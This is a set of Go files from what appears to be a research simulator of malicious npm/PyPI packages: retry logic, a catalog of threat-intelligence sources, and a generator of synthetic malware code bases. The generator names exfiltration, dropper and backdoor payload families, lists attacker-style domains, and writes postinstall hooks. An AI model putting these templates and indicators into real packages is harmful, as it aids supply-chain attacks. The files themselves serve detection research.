	case <-ctx.Done():
		return ctx.Err()
	case <-t.C:
		return nil
	}
}

type retryableError struct{ err error }

func (e retryableError) Error() string { return e.err.Error() }
func (e retryableError) Unwrap() error { return e.err }

// Mark wraps err so Do treats it as transient. Marking nil returns nil.
func Mark(err error) error {
	if err == nil {
		return nil
	}
	return retryableError{err}
}

// IsRetryable reports whether err (or anything it wraps) was Marked.
func IsRetryable(err error) bool {
	var r retryableError
	return errors.As(err, &r)
}
