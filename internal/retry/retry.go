// Package retry implements bounded exponential backoff with jitter for the
// network edges of the pipeline (registry clients, malgraphctl push). Only
// errors explicitly marked retryable — transport failures and 5xx answers —
// are retried; definitive answers (404 takedowns, 4xx rejections) must pass
// through untouched so the PR 3 ErrNotFound/ErrUnresolved contract survives.
//
// Servers that shed load deliberately (429 Too Many Requests, 503 with a
// Retry-After header) get two extra behaviours: MarkAfter carries the
// server's own back-off hint into the sleep (never past the policy's
// MaxDelay ceiling), and MarkThrottled additionally makes the answer
// budget-exempt — an admission-control shed is the server working as
// designed, not failing, so it burns a separate (larger) throttle budget
// instead of the failure budget.
package retry

import (
	"context"
	"errors"
	"math/rand"
	"net/http"
	"strconv"
	"time"
)

// Policy bounds a retry loop: at most Attempts tries, sleeping
// BaseDelay·2^n (capped at MaxDelay) between them, with up to Jitter
// fraction of each delay randomized away so synchronized clients do not
// stampede a recovering endpoint.
type Policy struct {
	// Attempts is the total number of tries, including the first (min 1).
	Attempts int
	// BaseDelay is the sleep before the second attempt.
	BaseDelay time.Duration
	// MaxDelay caps the exponential growth.
	MaxDelay time.Duration
	// Jitter in [0,1] is the fraction of each delay drawn uniformly at
	// random (equal jitter: delay/2 fixed + delay/2 random at Jitter=1).
	Jitter float64
	// Sleep replaces the wait between attempts, for tests. nil sleeps on
	// a timer, honouring ctx cancellation.
	Sleep func(ctx context.Context, d time.Duration) error
	// Rand supplies jitter randomness; nil uses math/rand's global source.
	Rand *rand.Rand
	// ThrottleAttempts bounds how many throttled answers (MarkThrottled —
	// deliberate 429-style sheds that do not consume the failure budget)
	// are waited out before giving up. 0 defaults to 4× Attempts.
	ThrottleAttempts int
}

// Default is the policy used by the registry client and push paths: three
// tries, 50ms base doubling to a 2s cap, half-jittered.
func Default() Policy {
	return Policy{Attempts: 3, BaseDelay: 50 * time.Millisecond, MaxDelay: 2 * time.Second, Jitter: 0.5}
}

// Do runs op until it succeeds, returns a non-retryable error, or the
// attempt budget is spent. The last error is returned verbatim (minus the
// retryable marker), so errors.Is checks against the underlying cause work.
//
// Throttled errors (MarkThrottled) consume the separate ThrottleAttempts
// budget instead of Attempts: a server shedding load on purpose should not
// exhaust the failure budget reserved for genuine outages. Either kind of
// error may carry a server-provided Retry-After hint (MarkAfter /
// MarkThrottled); the sleep before the next try is the larger of the
// backoff schedule and that hint, with the hint capped at MaxDelay so a
// hostile or confused server cannot park the client for hours.
func (p Policy) Do(ctx context.Context, op func(ctx context.Context) error) error {
	if p.Attempts < 1 {
		p.Attempts = 1
	}
	throttleBudget := p.ThrottleAttempts
	if throttleBudget <= 0 {
		throttleBudget = 4 * p.Attempts
	}
	failures, throttles := 0, 0
	for {
		err := op(ctx)
		if err == nil || !IsRetryable(err) {
			return err
		}
		var backoff time.Duration
		if IsThrottled(err) {
			throttles++
			if throttles >= throttleBudget {
				return err
			}
			// A throttle is not a failure: the backoff restarts from base
			// each time and the server's hint (below) dominates.
			backoff = p.delay(0)
		} else {
			failures++
			if failures >= p.Attempts {
				return err
			}
			backoff = p.delay(failures - 1)
		}
		if hint, ok := AfterHint(err); ok {
			if p.MaxDelay > 0 && hint > p.MaxDelay {
				hint = p.MaxDelay // cap the server's ask at our own ceiling
			}
			if hint > backoff {
				backoff = hint
			}
		}
		if serr := p.sleep(ctx, backoff); serr != nil {
			return serr
		}
	}
}

func (p Policy) delay(n int) time.Duration {
	d := p.BaseDelay
	if d <= 0 {
		return 0
	}
	for i := 0; i < n && d < p.MaxDelay; i++ {
		d *= 2
	}
	if p.MaxDelay > 0 && d > p.MaxDelay {
		d = p.MaxDelay
	}
	if p.Jitter > 0 {
		j := p.Jitter
		if j > 1 {
			j = 1
		}
		span := float64(d) * j
		var u float64
		if p.Rand != nil {
			u = p.Rand.Float64()
		} else {
			u = rand.Float64()
		}
		d = time.Duration(float64(d) - span/2 + u*span)
	}
	return d
}

func (p Policy) sleep(ctx context.Context, d time.Duration) error {
	if p.Sleep != nil {
		return p.Sleep(ctx, d)
	}
	if d <= 0 {
		return ctx.Err()
	}
	t := time.NewTimer(d)
	defer t.Stop()
	select {
	case <-ctx.Done():
		return ctx.Err()
	case <-t.C:
		return nil
	}
}

type retryableError struct {
	err error
	// after is the server-provided Retry-After hint (0 = none).
	after time.Duration
	// throttled marks a deliberate load-shed answer (429): retried against
	// the throttle budget, not the failure budget.
	throttled bool
}

func (e retryableError) Error() string { return e.err.Error() }
func (e retryableError) Unwrap() error { return e.err }

// Mark wraps err so Do treats it as transient. Marking nil returns nil.
func Mark(err error) error {
	if err == nil {
		return nil
	}
	return retryableError{err: err}
}

// MarkAfter wraps err retryable with the server's Retry-After hint: Do
// sleeps at least that long (capped at the policy's MaxDelay) before the
// next try. Marking nil returns nil.
func MarkAfter(err error, after time.Duration) error {
	if err == nil {
		return nil
	}
	return retryableError{err: err, after: after}
}

// MarkThrottled wraps err as a deliberate load-shed answer (HTTP 429):
// retryable, honouring the Retry-After hint, and budget-exempt — it
// consumes the policy's ThrottleAttempts budget instead of Attempts.
// Marking nil returns nil.
func MarkThrottled(err error, after time.Duration) error {
	if err == nil {
		return nil
	}
	return retryableError{err: err, after: after, throttled: true}
}

// IsRetryable reports whether err (or anything it wraps) was Marked.
func IsRetryable(err error) bool {
	var r retryableError
	return errors.As(err, &r)
}

// IsThrottled reports whether err was marked as a throttled (429) answer.
func IsThrottled(err error) bool {
	var r retryableError
	return errors.As(err, &r) && r.throttled
}

// AfterHint returns the Retry-After hint carried by err, when one is.
func AfterHint(err error) (time.Duration, bool) {
	var r retryableError
	if errors.As(err, &r) && r.after > 0 {
		return r.after, true
	}
	return 0, false
}

// ParseRetryAfter parses an HTTP Retry-After header value — delay-seconds
// or an HTTP-date — into a duration. ok is false for absent or malformed
// values; a date in the past parses as 0 (retry immediately).
func ParseRetryAfter(header string) (time.Duration, bool) {
	if header == "" {
		return 0, false
	}
	if secs, err := strconv.Atoi(header); err == nil {
		if secs < 0 {
			return 0, false
		}
		return time.Duration(secs) * time.Second, true
	}
	if at, err := http.ParseTime(header); err == nil {
		d := time.Until(at)
		if d < 0 {
			d = 0
		}
		return d, true
	}
	return 0, false
}
