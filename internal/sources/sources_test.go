package sources

import (
	"testing"
	"time"

	"malgraph/internal/ecosys"
)

var t0 = time.Date(2023, 5, 1, 0, 0, 0, 0, time.UTC)

func coord(name string) ecosys.Coord {
	return ecosys.Coord{Ecosystem: ecosys.PyPI, Name: name, Version: "1.0.0"}
}

func artifact(name string) *ecosys.Artifact {
	return ecosys.NewArtifact(coord(name), "d", []ecosys.File{{Path: "setup.py", Content: "x=1"}})
}

func TestCatalogMatchesTableI(t *testing.T) {
	cat := Catalog()
	if len(cat) != 10 {
		t.Fatalf("Table I has 10 sources, catalog has %d", len(cat))
	}
	carriers := 0
	academia := 0
	seen := map[ID]bool{}
	for _, info := range cat {
		if seen[info.ID] {
			t.Fatalf("duplicate source %v", info.ID)
		}
		seen[info.ID] = true
		if info.CarriesArtifacts {
			carriers++
		}
		if info.Kind == KindAcademia {
			academia++
		}
	}
	// B.K, Maloss, Mal-PyPI and DataDog publish downloadable datasets.
	if carriers != 4 {
		t.Fatalf("artifact-carrying sources = %d, want 4", carriers)
	}
	if academia != 3 {
		t.Fatalf("academia sources = %d, want 3", academia)
	}
}

func TestInfoForAndString(t *testing.T) {
	info, ok := InfoFor(Backstabber)
	if !ok || info.Name != "Backstabber-Knife" || info.Abbrev != "B.K" {
		t.Fatalf("InfoFor(Backstabber) = %+v", info)
	}
	if _, ok := InfoFor(ID(99)); ok {
		t.Fatal("unknown ID resolved")
	}
	if Snyk.String() != "Snyk.io" {
		t.Fatalf("Snyk.String() = %q", Snyk.String())
	}
	if got := ID(99).String(); got != "SourceID(99)" {
		t.Fatalf("unknown ID String = %q", got)
	}
}

func TestObserveArtifactPolicy(t *testing.T) {
	set := NewSet()
	// Academia keeps artifacts.
	bk := set.Get(Backstabber)
	bk.Observe(coord("a"), t0, artifact("a"))
	if recs := bk.Records(); recs[0].Artifact == nil {
		t.Fatal("Backstabber must retain artifacts")
	}
	// Industry names-only feeds drop them (§II-B: malware is an asset).
	snyk := set.Get(Snyk)
	snyk.Observe(coord("b"), t0, artifact("b"))
	if recs := snyk.Records(); recs[0].Artifact != nil {
		t.Fatal("Snyk must not retain artifacts")
	}
}

func TestObserveKeepsEarliestTimestamp(t *testing.T) {
	src := NewSource(Info{ID: Tianwen, Name: "Tianwen", CarriesArtifacts: false})
	src.Observe(coord("x"), t0.AddDate(0, 0, 5), nil)
	src.Observe(coord("x"), t0, nil) // earlier re-observation wins
	src.Observe(coord("x"), t0.AddDate(0, 1, 0), nil)
	recs := src.Records()
	if len(recs) != 1 {
		t.Fatalf("records = %d", len(recs))
	}
	if !recs[0].ObservedAt.Equal(t0) {
		t.Fatalf("observed at %v, want %v", recs[0].ObservedAt, t0)
	}
}

func TestHasAndSize(t *testing.T) {
	src := NewSource(Info{ID: Phylum, Name: "Phylum"})
	if src.Has(coord("x")) || src.Size() != 0 {
		t.Fatal("empty source state wrong")
	}
	src.Observe(coord("x"), t0, nil)
	if !src.Has(coord("x")) || src.Size() != 1 {
		t.Fatal("observation not recorded")
	}
	if src.Has(coord("y")) {
		t.Fatal("phantom record")
	}
}

func TestRecordsSorted(t *testing.T) {
	src := NewSource(Info{ID: Socket, Name: "Socket"})
	for _, name := range []string{"zeta", "alpha", "mid"} {
		src.Observe(coord(name), t0, nil)
	}
	recs := src.Records()
	for i := 1; i < len(recs); i++ {
		if recs[i-1].Coord.Key() >= recs[i].Coord.Key() {
			t.Fatal("records not sorted by key")
		}
	}
}

func TestSetAllInCatalogOrder(t *testing.T) {
	set := NewSet()
	all := set.All()
	if len(all) != 10 {
		t.Fatalf("set sources = %d", len(all))
	}
	for i, info := range Catalog() {
		if all[i].Info().ID != info.ID {
			t.Fatalf("All() order mismatch at %d", i)
		}
	}
}

func TestTotalObservationsCountsDuplicates(t *testing.T) {
	set := NewSet()
	set.Get(Backstabber).Observe(coord("x"), t0, artifact("x"))
	set.Get(Snyk).Observe(coord("x"), t0, nil) // same package, second source
	set.Get(Snyk).Observe(coord("y"), t0, nil)
	if got := set.TotalObservations(); got != 3 {
		t.Fatalf("TotalObservations = %d, want 3 (duplicates counted)", got)
	}
}
