// Package sources models the ten online sources of Table I: the academic
// datasets that ship malware artifacts (Backstabber-Knife, Maloss, Mal-PyPI)
// plus DataDog's public dataset, and the industry feeds that disclose only
// package names/versions (GitHub Advisory, Snyk, Tianwen, Phylum, Socket,
// individual blogs). A Source accumulates observation records; the collection
// pipeline later merges all sources and recovers artifact-less records
// through registry mirrors (§II-B).
package sources

import (
	"fmt"
	"sort"
	"sync"
	"time"

	"malgraph/internal/ecosys"
)

// ID identifies one of the Table I sources.
type ID int

// The ten sources of Table I.
const (
	Backstabber ID = iota + 1
	Maloss
	MalPyPI
	GitHubAdvisory
	Snyk
	Tianwen
	DataDog
	Phylum
	Socket
	Blogs
)

// Kind groups sources as the paper does (Table I "Category").
type Kind int

// Source categories.
const (
	KindAcademia Kind = iota + 1
	KindIndustry
)

// Info is the static catalog entry for a source.
type Info struct {
	ID               ID
	Name             string
	Abbrev           string // Table IV abbreviation
	Kind             Kind
	CarriesArtifacts bool // open-source dataset with downloadable packages
}

// Catalog returns the Table I source catalog in table order.
func Catalog() []Info {
	return []Info{
		{ID: Backstabber, Name: "Backstabber-Knife", Abbrev: "B.K", Kind: KindAcademia, CarriesArtifacts: true},
		{ID: Maloss, Name: "Maloss", Abbrev: "M.", Kind: KindAcademia, CarriesArtifacts: true},
		{ID: MalPyPI, Name: "Mal-PyPI", Abbrev: "M.D", Kind: KindAcademia, CarriesArtifacts: true},
		{ID: GitHubAdvisory, Name: "GitHub Advisory", Abbrev: "G.A", Kind: KindIndustry, CarriesArtifacts: false},
		{ID: Snyk, Name: "Snyk.io", Abbrev: "S.i", Kind: KindIndustry, CarriesArtifacts: false},
		{ID: Tianwen, Name: "Tianwen", Abbrev: "T.", Kind: KindIndustry, CarriesArtifacts: false},
		{ID: DataDog, Name: "DataDog", Abbrev: "D.D", Kind: KindIndustry, CarriesArtifacts: true},
		{ID: Phylum, Name: "Phylum", Abbrev: "P.", Kind: KindIndustry, CarriesArtifacts: false},
		{ID: Socket, Name: "Socket", Abbrev: "So.", Kind: KindIndustry, CarriesArtifacts: false},
		{ID: Blogs, Name: "Blogs", Abbrev: "I.B", Kind: KindIndustry, CarriesArtifacts: false},
	}
}

// InfoFor returns the catalog entry for an ID.
func InfoFor(id ID) (Info, bool) {
	for _, info := range Catalog() {
		if info.ID == id {
			return info, true
		}
	}
	return Info{}, false
}

// String returns the source's short name.
func (id ID) String() string {
	if info, ok := InfoFor(id); ok {
		return info.Name
	}
	return fmt.Sprintf("SourceID(%d)", int(id))
}

// Record is one observation of a malicious package by a source.
type Record struct {
	Coord      ecosys.Coord
	Artifact   *ecosys.Artifact // nil when the source publishes names only
	ObservedAt time.Time
}

// Source is a live observation feed.
type Source struct {
	info Info

	mu      sync.RWMutex
	records map[string]Record
}

// NewSource creates an empty source for the catalog entry.
func NewSource(info Info) *Source {
	return &Source{info: info, records: make(map[string]Record)}
}

// Info returns the static catalog entry.
func (s *Source) Info() Info { return s.info }

// Observe records a package sighting. Artifacts are retained only by
// artifact-carrying sources — industry feeds treat malware as an asset and do
// not share it (§II-B). Re-observations keep the earliest timestamp.
func (s *Source) Observe(coord ecosys.Coord, at time.Time, artifact *ecosys.Artifact) {
	s.mu.Lock()
	defer s.mu.Unlock()
	if !s.info.CarriesArtifacts {
		artifact = nil
	}
	key := coord.Key()
	if prev, ok := s.records[key]; ok {
		if prev.ObservedAt.Before(at) {
			return
		}
	}
	s.records[key] = Record{Coord: coord, Artifact: artifact, ObservedAt: at}
}

// Has reports whether the source observed the coordinate.
func (s *Source) Has(coord ecosys.Coord) bool {
	s.mu.RLock()
	defer s.mu.RUnlock()
	_, ok := s.records[coord.Key()]
	return ok
}

// Size returns the number of observed packages.
func (s *Source) Size() int {
	s.mu.RLock()
	defer s.mu.RUnlock()
	return len(s.records)
}

// Records returns all observations sorted by coordinate key.
func (s *Source) Records() []Record {
	s.mu.RLock()
	defer s.mu.RUnlock()
	out := make([]Record, 0, len(s.records))
	for _, r := range s.records {
		out = append(out, r)
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Coord.Key() < out[j].Coord.Key() })
	return out
}

// Set is the full collection of sources for a simulated world.
type Set struct {
	byID map[ID]*Source
}

// NewSet instantiates every catalog source.
func NewSet() *Set {
	set := &Set{byID: make(map[ID]*Source, len(Catalog()))}
	for _, info := range Catalog() {
		set.byID[info.ID] = NewSource(info)
	}
	return set
}

// Get returns the source for an ID.
func (s *Set) Get(id ID) *Source { return s.byID[id] }

// All returns the sources in catalog order.
func (s *Set) All() []*Source {
	out := make([]*Source, 0, len(s.byID))
	for _, info := range Catalog() {
		out = append(out, s.byID[info.ID])
	}
	return out
}

// TotalObservations sums Size over all sources (counting duplicates, as the
// paper's Table I does before dedup).
func (s *Set) TotalObservations() int {
	total := 0
	for _, src := range s.All() {
		total += src.Size()
	}
	return total
}
