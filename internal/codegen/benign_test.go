package codegen

import (
	"strings"
	"testing"

	"malgraph/internal/ecosys"
	"malgraph/internal/xrand"
)

func TestBenignBaseInstantiate(t *testing.T) {
	for _, purpose := range AllPurposes() {
		b := NewBenignBase("bb", ecosys.NPM, purpose, xrand.New(uint64(purpose)))
		coord := ecosys.Coord{Ecosystem: ecosys.NPM, Name: "nice-lib", Version: "1.0.0"}
		art := b.Instantiate(coord, "a good library", []string{"lodash"})
		if _, ok := art.Manifest(); !ok {
			t.Fatalf("purpose %d: no manifest", purpose)
		}
		if len(art.SourceFiles()) == 0 {
			t.Fatalf("purpose %d: no source", purpose)
		}
	}
}

func TestBenignHardNegativeSignals(t *testing.T) {
	mustContain := map[BenignPurpose]string{
		PurposeNetworking:    "net.connect",
		PurposeEncoding:      "base64",
		PurposeBuildTool:     "execSync",
		PurposeTelemetry:     "process.env",
		PurposeDNSTools:      "dns.lookup",
		PurposeWebhookClient: "webhook",
		PurposeClipboard:     "clipboard",
	}
	for purpose, needle := range mustContain {
		b := NewBenignBase("bb", ecosys.NPM, purpose, xrand.New(uint64(purpose)+50))
		art := b.Instantiate(ecosys.Coord{Ecosystem: ecosys.NPM, Name: "x", Version: "1"}, "d", nil)
		if !strings.Contains(art.MergedSource(), needle) {
			t.Errorf("purpose %d: missing hard-negative signal %q", purpose, needle)
		}
	}
}

func TestBenignPoolUniqueNames(t *testing.T) {
	pool := GenerateBenignPool(ecosys.NPM, 120, xrand.New(9))
	if len(pool) != 120 {
		t.Fatalf("pool size = %d", len(pool))
	}
	seen := map[string]bool{}
	purposes := map[string]bool{}
	for _, a := range pool {
		if seen[a.Coord.Name] {
			t.Fatalf("duplicate benign name %q", a.Coord.Name)
		}
		seen[a.Coord.Name] = true
		purposes[a.Files[0].Path] = true
	}
}

func TestBenignDeterministic(t *testing.T) {
	a := GenerateBenignPool(ecosys.NPM, 10, xrand.New(4))
	b := GenerateBenignPool(ecosys.NPM, 10, xrand.New(4))
	for i := range a {
		if a[i].Hash() != b[i].Hash() {
			t.Fatalf("benign pool not deterministic at %d", i)
		}
	}
}

func TestTrojanLitePayload(t *testing.T) {
	for _, eco := range []ecosys.Ecosystem{ecosys.NPM, ecosys.PyPI} {
		cb := NewCodeBase("troj", eco, PayloadTrojanLite, xrand.New(77))
		art := cb.Instantiate(ecosys.Coord{Ecosystem: eco, Name: "helpful", Version: "1.0.0"}, Options{Description: "d"})
		src := art.MergedSource()
		if !strings.Contains(src, "/pixel.gif") {
			t.Fatalf("%v: trojan beacon missing", eco)
		}
		// Trojanized libraries carry more benign mass than regular payloads.
		reg := NewCodeBase("reg", eco, PayloadEnvExfil, xrand.New(77))
		regArt := reg.Instantiate(ecosys.Coord{Ecosystem: eco, Name: "evil", Version: "1.0.0"}, Options{Description: "d"})
		if len(src) <= len(regArt.MergedSource()) {
			t.Errorf("%v: trojanized package should have more filler code", eco)
		}
	}
}

func TestTrojanLiteCCIsOneLine(t *testing.T) {
	cb := NewCodeBase("troj", ecosys.PyPI, PayloadTrojanLite, xrand.New(5))
	coord := ecosys.Coord{Ecosystem: ecosys.PyPI, Name: "x", Version: "1"}
	base := cb.Instantiate(coord, Options{})
	alt := RandomIoC(xrand.New(6))
	changed := cb.Instantiate(coord, Options{IoCOverride: &alt})
	n := ChangedLines(base.MergedSource(), changed.MergedSource())
	if n < 1 || n > 2 {
		t.Fatalf("trojan CC diff = %d lines", n)
	}
}

func TestInstallHookVariesByCodeBase(t *testing.T) {
	hooks := 0
	const n = 60
	for i := 0; i < n; i++ {
		cb := NewCodeBase("cb", ecosys.NPM, PayloadEnvExfil, xrand.New(uint64(1000+i)))
		art := cb.Instantiate(ecosys.Coord{Ecosystem: ecosys.NPM, Name: "x", Version: "1"}, Options{})
		m, _ := art.Manifest()
		if strings.Contains(m.Content, "postinstall") {
			hooks++
		}
	}
	if hooks == 0 || hooks == n {
		t.Fatalf("install hooks must vary across code bases: %d/%d", hooks, n)
	}
}

func TestDropperURLStableService(t *testing.T) {
	rng := xrand.New(3)
	cb := NewCodeBase("dd", ecosys.PyPI, PayloadDiscordDropper, rng)
	coord := ecosys.Coord{Ecosystem: ecosys.PyPI, Name: "x", Version: "1"}
	base := cb.Instantiate(coord, Options{})
	if !strings.Contains(base.MergedSource(), "cdn.discordapp.com") {
		t.Fatal("discord dropper must use the discord CDN")
	}
	// CC changes the path but keeps the service domain (the family marker).
	alt := RandomIoC(rng.Derive("alt"))
	changed := cb.Instantiate(coord, Options{IoCOverride: &alt})
	if !strings.Contains(changed.MergedSource(), "cdn.discordapp.com") {
		t.Fatal("CC variant lost the service marker")
	}
	if base.MergedSource() == changed.MergedSource() {
		t.Fatal("CC variant did not change the source")
	}
}
