// Package codegen synthesises malicious-package source code. It is the
// substitute for the paper's raw malware corpus: every artifact it emits has
// genuine source files (Python/JavaScript/Ruby), a dependency manifest, and a
// payload drawn from behaviour templates modelled on the paper's Table XI
// (exfiltration, C2 beaconing, Discord payload delivery, wallet replacement,
// PowerShell droppers, ...). Campaign simulators reuse one CodeBase across
// many releases, applying the social-engineering mutation operations of §V-B
// (CN/CV/CD/CDep/CC), so the similarity pipeline, the dependency scanner and
// the behaviour rules all operate on authentic-shaped inputs.
package codegen

import (
	"fmt"
	"strings"

	"malgraph/internal/ecosys"
	"malgraph/internal/xrand"
)

// Behavior labels a malicious capability; the vocabulary mirrors Table XI.
type Behavior string

// Behaviour vocabulary (Table XI rows).
const (
	BehaviorSpyware          Behavior = "Spyware"
	BehaviorBackdoor         Behavior = "Backdoor"
	BehaviorDataExfiltration Behavior = "Data Exfiltration"
	BehaviorC2Channel        Behavior = "C2 channel"
	BehaviorCredentialTheft  Behavior = "Credential collecting"
	BehaviorDNSTunneling     Behavior = "DNS tunneling exfiltration"
	BehaviorBeaconing        Behavior = "Beaconing"
	BehaviorFingerprinting   Behavior = "Fingerprinting"
	BehaviorWebhookAbuse     Behavior = "Webhook Abuse"
	BehaviorPIICollecting    Behavior = "PII collecting"
	BehaviorObfuscation      Behavior = "Obfuscation"
	BehaviorWalletReplace    Behavior = "Crypto Wallet Address Replacement"
	BehaviorDiscordDelivery  Behavior = "Discord Payload Delivery"
	BehaviorPowerShell       Behavior = "PowerShell"
	BehaviorDropboxFetch     Behavior = "Dropbox Malware Fetch"
	BehaviorLicenseSpoofing  Behavior = "Legitimate Package Spoofing"
)

// PayloadKind selects a payload template family.
type PayloadKind int

// Payload families. Each maps to a small set of behaviours and a code
// skeleton; families are what make two code bases dissimilar.
const (
	PayloadEnvExfil PayloadKind = iota + 1
	PayloadDiscordDropper
	PayloadDropboxFetch
	PayloadWalletReplace
	PayloadBackdoorShell
	PayloadBeaconC2
	PayloadCredentialTheft
	PayloadWebhookExfil
	PayloadDNSTunnel
	PayloadPowerShellDropper
	// PayloadTrojanLite is a trojanized library: a large benign code mass
	// with a single tracking-pixel beacon. Signature scanners catch it; the
	// generic feature vector barely registers it, so §VI-A models must have
	// seen the family to detect it.
	PayloadTrojanLite
)

// AllPayloads lists every payload family.
func AllPayloads() []PayloadKind {
	return []PayloadKind{
		PayloadEnvExfil, PayloadDiscordDropper, PayloadDropboxFetch,
		PayloadWalletReplace, PayloadBackdoorShell, PayloadBeaconC2,
		PayloadCredentialTheft, PayloadWebhookExfil, PayloadDNSTunnel,
		PayloadPowerShellDropper, PayloadTrojanLite,
	}
}

// Behaviors returns the behaviour labels a payload family exhibits.
func (p PayloadKind) Behaviors() []Behavior {
	switch p {
	case PayloadEnvExfil:
		return []Behavior{BehaviorDataExfiltration, BehaviorSpyware, BehaviorPIICollecting}
	case PayloadDiscordDropper:
		return []Behavior{BehaviorDiscordDelivery, BehaviorPowerShell, BehaviorLicenseSpoofing}
	case PayloadDropboxFetch:
		return []Behavior{BehaviorDropboxFetch, BehaviorPowerShell, BehaviorLicenseSpoofing}
	case PayloadWalletReplace:
		return []Behavior{BehaviorObfuscation, BehaviorWalletReplace}
	case PayloadBackdoorShell:
		return []Behavior{BehaviorBackdoor, BehaviorC2Channel, BehaviorSpyware}
	case PayloadBeaconC2:
		return []Behavior{BehaviorBeaconing, BehaviorFingerprinting, BehaviorC2Channel}
	case PayloadCredentialTheft:
		return []Behavior{BehaviorCredentialTheft, BehaviorC2Channel, BehaviorDNSTunneling}
	case PayloadWebhookExfil:
		return []Behavior{BehaviorWebhookAbuse, BehaviorDataExfiltration, BehaviorFingerprinting}
	case PayloadDNSTunnel:
		return []Behavior{BehaviorDNSTunneling, BehaviorDataExfiltration}
	case PayloadPowerShellDropper:
		return []Behavior{BehaviorPowerShell, BehaviorObfuscation, BehaviorLicenseSpoofing}
	case PayloadTrojanLite:
		return []Behavior{BehaviorBeaconing, BehaviorSpyware, BehaviorLicenseSpoofing}
	default:
		return nil
	}
}

// IoC bundles the network indicators a code base embeds. Changing the IP or
// URL is the classic CC ("changing code") operation: ~0.88 lines per hop.
type IoC struct {
	Domain string
	IP     string
	URL    string
}

// CodeBase is a reusable malware code base: one payload family, one language,
// a fixed identifier vocabulary, and benign filler. Packages instantiated
// from the same CodeBase share ~99% of their tokens, which is what the
// similarity stage must recover (§III-B).
type CodeBase struct {
	ID       string
	Eco      ecosys.Ecosystem
	Payload  PayloadKind
	IoC      IoC
	idents   []string // stable per-code-base identifier vocabulary
	fillers  []string // benign filler functions, stable per code base
	obfChunk string   // stable obfuscation blob
	salt     []string // unique per-code-base tokens woven through every file
	hook     bool     // whether NPM manifests declare a postinstall hook
	docLinks int      // fake documentation URLs copied from benign boilerplate
}

// Options configures a single artifact instantiation.
type Options struct {
	Description  string
	Dependencies []string // manifest-declared dependencies
	ImportDeps   []string // dependencies referenced from source (dependent-hidden channel)
	IoCOverride  *IoC     // CC operation: swap network indicators
}

// NewCodeBase derives a fresh code base for an ecosystem from the stream.
func NewCodeBase(id string, eco ecosys.Ecosystem, payload PayloadKind, rng *xrand.RNG) *CodeBase {
	cb := &CodeBase{ID: id, Eco: eco, Payload: payload}
	cb.IoC = RandomIoC(rng)
	nIdent := 6 + rng.Intn(5)
	cb.idents = make([]string, nIdent)
	for i := range cb.idents {
		cb.idents[i] = randomIdent(rng)
	}
	nFill := 3 + rng.Intn(4)
	if payload == PayloadTrojanLite {
		nFill += 4 // trojanized libraries are mostly legitimate code
	}
	cb.fillers = make([]string, nFill)
	// Salt: distinct identifiers every file of this code base repeats. Real
	// code bases differ in exactly this way — their own helper names and
	// internal vocabulary — and it is what keeps two unrelated campaigns
	// that happen to share a payload *pattern* from embedding identically.
	cb.salt = make([]string, 6)
	for i := range cb.salt {
		cb.salt[i] = randomIdent(rng) + randomIdent(rng)
	}
	for i := range cb.fillers {
		cb.fillers[i] = fillerFunc(eco, rng, cb.salt[i%len(cb.salt)])
	}
	cb.obfChunk = base64ish(rng, 48+rng.Intn(80))
	// Roughly two thirds of campaigns trigger at install time; the rest rely
	// on import-time or runtime execution, so an install hook alone is not a
	// reliable malware tell.
	cb.hook = rng.Bool(0.65)
	// Attackers copy benign boilerplate: many campaigns ship fake
	// documentation links, so URL counts overlap the benign distribution.
	cb.docLinks = rng.Intn(3)
	return cb
}

// saltHeader renders the code base's vocabulary as an inert banner comment,
// plus the code base's stolen documentation links.
func (cb *CodeBase) saltHeader(ext string) string {
	marker := "#"
	if ext == "js" {
		marker = "//"
	}
	var b strings.Builder
	line := marker + " internal: " + strings.Join(cb.salt, " ") + "\n"
	b.WriteString(line)
	b.WriteString(line)
	for i := 0; i < cb.docLinks; i++ {
		fmt.Fprintf(&b, "%s docs: https://github.com/org/%s#readme\n", marker, cb.salt[i%len(cb.salt)])
	}
	return b.String()
}

// RandomIoC draws a plausible indicator set.
func RandomIoC(rng *xrand.RNG) IoC {
	domains := []string{
		"bananasquad.ru", "kekwltd.ru", "python-release.com", "paste.bingner.com",
		"cdn.discordapp.com", "api.telegram.org", "transfer.sh", "dl.dropbox.com",
		"raw.githubusercontent.com", "discord.com", "grabify.link", "oastify.com",
	}
	ip := fmt.Sprintf("%d.%d.%d.%d", 5+rng.Intn(200), rng.Intn(256), rng.Intn(256), 1+rng.Intn(254))
	domain := xrand.Pick(rng, domains)
	return IoC{
		Domain: domain,
		IP:     ip,
		URL:    fmt.Sprintf("https://%s/%s", domain, randomIdentSeeded(rng)),
	}
}

// Instantiate renders a complete artifact for the given coordinate.
func (cb *CodeBase) Instantiate(coord ecosys.Coord, opts Options) *ecosys.Artifact {
	ioc := cb.IoC
	if opts.IoCOverride != nil {
		ioc = *opts.IoCOverride
	}
	var files []ecosys.File
	files = append(files, cb.manifest(coord, opts))
	files = append(files, ecosys.File{Path: "README.md", Content: readme(coord, opts.Description)})
	files = append(files, cb.sourceFiles(coord, opts, ioc)...)
	return ecosys.NewArtifact(coord, opts.Description, files)
}

func (cb *CodeBase) manifest(coord ecosys.Coord, opts Options) ecosys.File {
	switch coord.Ecosystem {
	case ecosys.PyPI:
		var b strings.Builder
		for _, d := range opts.Dependencies {
			b.WriteString(d)
			b.WriteByte('\n')
		}
		return ecosys.File{Path: "requirements.txt", Content: b.String()}
	case ecosys.RubyGems:
		var b strings.Builder
		fmt.Fprintf(&b, "Gem::Specification.new do |s|\n")
		fmt.Fprintf(&b, "  s.name = %q\n  s.version = %q\n  s.summary = %q\n", coord.Name, coord.Version, opts.Description)
		for _, d := range opts.Dependencies {
			fmt.Fprintf(&b, "  s.add_dependency %q\n", d)
		}
		b.WriteString("end\n")
		return ecosys.File{Path: "package.gemspec", Content: b.String()}
	default:
		var b strings.Builder
		b.WriteString("{\n")
		fmt.Fprintf(&b, "  \"name\": %q,\n  \"version\": %q,\n  \"description\": %q,\n", coord.Name, coord.Version, opts.Description)
		if cb.hook {
			b.WriteString("  \"scripts\": {\"postinstall\": \"node index.js\"},\n")
		}
		b.WriteString("  \"dependencies\": {")
		for i, d := range opts.Dependencies {
			if i > 0 {
				b.WriteString(", ")
			}
			fmt.Fprintf(&b, "%q: \"^1.0.0\"", d)
		}
		b.WriteString("}\n}\n")
		return ecosys.File{Path: "package.json", Content: b.String()}
	}
}

func readme(coord ecosys.Coord, desc string) string {
